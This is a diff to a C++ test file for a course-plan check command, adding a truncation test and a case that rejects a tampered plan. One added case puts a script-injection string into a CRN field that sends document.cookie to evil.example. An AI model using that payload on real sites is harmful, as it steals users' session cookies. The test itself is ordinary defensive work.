@@ -6,7 +6,9 @@
 #include <nlohmann/json.hpp>
 
 #include "catalogue/catalogue_files.h"
+#include "catalogue/file_system.h"
 #include "cli/cli_runner.h"
+#include "files/dkf_format.h"
 #include "files/plan_io.h"
 #include "planner/planner.h"
 #include "support/catalogue_fixture.h"
@@ -34,6 +36,12 @@ class PlanCheckCommandTest : public ::testing::Test {
  protected:
   void SetUp() override {
     store.Department("ELK", Term("Sali", "D201", true));
+    SaveCommittedPlan();
+  }
+
+  // Commits ELK 102E in row 1 and ELK 201 in row 2 from the catalogue as it
+  // is now, and saves the plan.
+  void SaveCommittedPlan() {
     catalogue::CatalogueQuery query1(store.ConnectionString());
     planner::Planner planner(query1, folder.Path(), "http://127.0.0.1:9/", "Plan");
     planner.Sifirla();
@@ -89,6 +97,14 @@ TEST_F(PlanCheckCommandTest, ExitStatusAndReportFollowTheCatalogue) {
              {{"field", "derslik"}, {"meeting", 1}, {"old", "D201"}, {"new", "D305"}}}}},
           {{"row", 2}, {"course", "ELK 201"}, {"crn", "30002"}, {"status", "vanished"}, {"changes", json::array()}}}},
         {"clashes", json::array()}}},
+      // The CRN goes into the add/drop script: such a plan is not read.
+      {"a CRN that carries code",
+       [&] {
+         planner::PlanSnapshot spoiled = files::DecodePlan(ReadWholeFile(plan));
+         spoiled.rows[0]->CRN = "1,fetch('https://evil.example/?c='+document.cookie)";
+         WriteFileAtomically(plan, files::EncodePlan(spoiled));
+       },
+       2, nullptr},
       {"no catalogue", [&] { std::filesystem::remove(folder.Path() + std::string(catalogue::kMainCatalogue)); }, 2,
        nullptr},
       {"not a plan", [&] { std::ofstream(plan, std::ios::binary | std::ios::trunc) << "x"; }, 2, nullptr},
@@ -106,6 +122,28 @@ TEST_F(PlanCheckCommandTest, ExitStatusAndReportFollowTheCatalogue) {
     }
     EXPECT_EQ(Check(false).status, c.status);
   }
+}
+
+// A schedule file keeps 255 bytes of a text and nothing after a zero byte:
+// a plan saved a moment ago must not fail its own check for that.
+TEST_F(PlanCheckCommandTest, WhatTheFileCutsOffIsNoChange) {
+  catalogue::SectionValues long_texts = Term("Sali", "D201", true)[0];
+  long_texts.ders_adi = std::string(300, 'a');
+  long_texts.ogretmen = std::string(254, 'b') + "cd";
+  long_texts.derslik = std::string(
+      "D2\0"
+      "01",
+      5);
+  store.Refill("ELK", {long_texts, Term("Sali", "D201", true)[1]});
+  SaveCommittedPlan();
+  const CliResult result = Check(false);
+  EXPECT_EQ(result.status, 0) << result.out;
+  EXPECT_EQ(result.out, "Programdaki dersler değişmemiş.\n");
+
+  // A change inside what the file keeps is still one.
+  long_texts.ders_adi = std::string(254, 'a') + "x";
+  store.Refill("ELK", {long_texts, Term("Sali", "D201", true)[1]});
+  EXPECT_EQ(Check(false).status, 1);
 }
 
 TEST_F(PlanCheckCommandTest, TextReportNamesTheChanges) {
